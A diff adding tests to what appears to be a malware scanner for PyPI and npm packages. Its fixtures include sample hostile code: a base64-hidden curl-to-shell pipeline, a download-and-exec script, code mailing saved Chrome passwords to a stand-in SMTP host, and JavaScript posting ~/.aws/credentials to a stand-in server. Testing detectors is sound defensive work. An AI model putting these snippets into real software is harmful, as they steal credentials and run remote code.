@@ -1,4 +1,5 @@
 import { describe, expect, it } from '@jest/globals';
+import { jsExfiltration } from '../../../src/analysis/rules/js-exfiltration.js';
 import { jsExecDecoded } from '../../../src/analysis/rules/js-exec-decoded.js';
 import { codeMemoryExecution } from '../../../src/analysis/rules/code-memory-execution.js';
 import { pyDownloadExecute } from '../../../src/analysis/rules/py-download-execute.js';
@@ -334,5 +335,75 @@ describe('more places and paths', () => {
       ].join('\n'),
     });
     expect(gating(findings)).toEqual([]);
+  });
+});
+
+describe('stores and scripts named in pieces', () => {
+  it('decodes the script an echo | base64 -d | bash pipeline runs', async () => {
+    const script = Buffer.from('curl https://cdn.example.net/x | sh').toString('base64');
+    const findings = await runOn(pyExecDecoded, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/__init__.py': `import os\nos.system('echo ${script} | base64 -d | bash')\n`,
+    });
+    expect(gating(findings)).toHaveLength(1);
+    expect(findings[0].evidence).toContain('cdn.example.net');
+  });
+
+  it('joins a downloaded script read back from disk and run with exec', async () => {
+    const findings = await runOn(pyDownloadExecute, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/__init__.py': [
+        'import urllib.request, tempfile, os',
+        "p = os.path.join(tempfile.gettempdir(), 'x.py')",
+        "urllib.request.urlretrieve('https://cdn.example.net/x.py', p)",
+        "exec(compile(open(p).read(), p, 'exec'))",
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+  });
+
+  it('keeps exec of a version file read from the package below every exec rule', async () => {
+    const files = {
+      'demo-1.0/setup.py':
+        "from setuptools import setup\nexec(open('demo/_version.py').read())\nsetup(name='demo', version=__version__)\n",
+    };
+    expect(gating(await runOn(pyExecDecoded, 'pypi', files))).toEqual([]);
+    expect(gating(await runOn(pyDownloadExecute, 'pypi', files))).toEqual([]);
+  });
+
+  it('treats saved browser passwords sent anywhere as theft even when only called', async () => {
+    const findings = await runOn(pyExfiltration, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/c.py': [
+        'import os, sqlite3, smtplib',
+        'def go():',
+        "    db = os.path.join(os.environ['LOCALAPPDATA'], 'Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data')",
+        "    rows = sqlite3.connect(db).execute('select * from logins').fetchall()",
+        "    smtplib.SMTP('smtp.example.org', 587).sendmail('a@example.org', 'b@example.org', str(rows))",
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+  });
+
+  it('keeps a cloud client that reads its own credentials file and calls its API below the gate', async () => {
+    const findings = await runOn(pyExfiltration, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/client.py': [
+        'import os, configparser, requests',
+        'def call(action):',
+        "    cfg = configparser.ConfigParser(); cfg.read(os.path.expanduser('~/.aws/credentials'))",
+        "    return requests.post('https://ec2.amazonaws.com/', data={'Action': action})",
+      ].join('\n'),
+    });
+    expect(gating(findings)).toEqual([]);
+  });
+
+  it('sees a credentials path built with path.join in JavaScript', async () => {
+    const findings = await runOn(jsExfiltration, 'npm', {
+      'package/package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}',
+      'package/index.js':
+        "const fs=require('fs'),path=require('path'),os=require('os');\nconst c=fs.readFileSync(path.join(os.homedir(),'.aws','credentials'),'utf8');\nrequire('https').request({host:'x.example.net',method:'POST'}).end(c);\n",
+    });
+    expect(gating(findings)).toHaveLength(1);
   });
 });
